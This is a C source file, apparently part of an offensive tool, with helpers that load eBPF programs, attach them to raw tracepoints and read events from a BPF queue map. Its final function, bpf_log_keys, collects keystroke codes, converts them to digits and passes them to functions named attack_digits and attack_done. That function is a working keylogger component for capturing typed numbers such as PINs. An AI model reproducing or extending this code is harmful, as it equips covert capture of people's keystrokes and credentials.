// SPDX-License-Identifier: Apache-2.0
#include <errno.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "bpf.h"
#include "evdev.h"
#include "report.h"

#define ENTRIES 256

static char verifier[16384];

static int call(enum bpf_cmd cmd, union bpf_attr *attr)
{
	int ret = (int)syscall(SYS_bpf, cmd, attr, sizeof(*attr));

	return ret < 0 ? -errno : ret;
}

int bpf_queue_new(uint32_t value_size)
{
	union bpf_attr attr = {
		.map_type = BPF_MAP_TYPE_QUEUE,
		.value_size = value_size,
		.max_entries = ENTRIES,
	};

	return call(BPF_MAP_CREATE, &attr);
}

int bpf_queue_pop(int queue, void *ret_value)
{
	union bpf_attr attr = { .map_fd = (uint32_t)queue, .value = (uintptr_t)ret_value };

	return call(BPF_MAP_LOOKUP_AND_DELETE_ELEM, &attr);
}

/* The last line but one says what is wrong. */
static void note_verifier(void)
{
	char *line;

	for (line = strtok(verifier, "\n"); line; line = strtok(NULL, "\n"))
		attack_note("verifier: %s", line);
}

int bpf_load(const struct bpf_program *program)
{
	union bpf_attr attr = {
		.prog_type = program->type,
		.insns = (uintptr_t)program->insns,
		.insn_cnt = (uint32_t)program->count,
		.license = (uintptr_t)"GPL",
		.log_level = 1,
		.log_buf = (uintptr_t)verifier,
		.log_size = sizeof(verifier),
		.expected_attach_type = program->attach,
		.attach_btf_id = program->btf_id,
	};
	int ret = call(BPF_PROG_LOAD, &attr);

	if (ret < 0)
		note_verifier();
	return ret;
}

int bpf_attach(int program, const char *tracepoint)
{
	union bpf_attr attr = {
		.raw_tracepoint = { .name = (uintptr_t)tracepoint, .prog_fd = (uint32_t)program },
	};

	return call(BPF_RAW_TRACEPOINT_OPEN, &attr);
}

void bpf_log_keys(int queue)
{
	struct {
		uint32_t code, value;
	} key;
	char digits[256] = "";
	size_t len = 0;
	char digit;

	while (!attack_wait(50)) {
		while (!bpf_queue_pop(queue, &key)) {
			digit = evdev_digit(key.code);
			if (digit && len + 1 < sizeof(digits))
				digits[len++] = digit;
		}
	}
	attack_digits(digits);
	attack_done();
}
